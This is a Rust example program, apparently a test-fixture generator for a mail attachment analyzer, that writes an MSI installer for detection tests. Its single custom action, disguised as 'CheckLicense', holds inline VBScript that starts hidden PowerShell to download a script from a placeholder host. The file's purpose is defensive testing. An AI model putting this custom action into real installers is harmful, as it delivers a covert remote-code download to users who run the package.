//! Writes an inert test installer for the attachment cases: one custom action whose inline
//! VBScript would start PowerShell to fetch a script from an unresolvable host. Used by
//! `cases/generate.py`; nothing here runs anything.
//!
//!     cargo run -q -p mailmoat-analyzers --example make_msi -- OUT.msi

use std::io::Cursor;

use msi::{Column, Insert, Package, PackageType, Value};

fn main() -> std::io::Result<()> {
    let out = std::env::args().nth(1).expect("usage: make_msi OUT.msi");
    let mut package = Package::create(PackageType::Installer, Cursor::new(Vec::new()))?;
    package.create_table(
        "CustomAction",
        vec![
            Column::build("Action").primary_key().id_string(72),
            Column::build("Type").int16(),
            Column::build("Source").nullable().string(72),
            Column::build("Target").nullable().formatted_string(255),
        ],
    )?;
    package.insert_rows(Insert::into("CustomAction").row(vec![
        Value::from("CheckLicense"),
        // 38: VBScript text inline in Target.
        Value::Int(38),
        Value::Null,
        Value::from(
            "Set s = CreateObject(\"WScript.Shell\") : s.Run \"powershell -w hidden -c iwr http://licence-check.invalid/a.ps1 -OutFile $env:TEMP\\a.ps1\", 0",
        ),
    ]))?;
    package.flush()?;
    let bytes = package.into_inner()?.into_inner();
    std::fs::write(out, bytes)
}
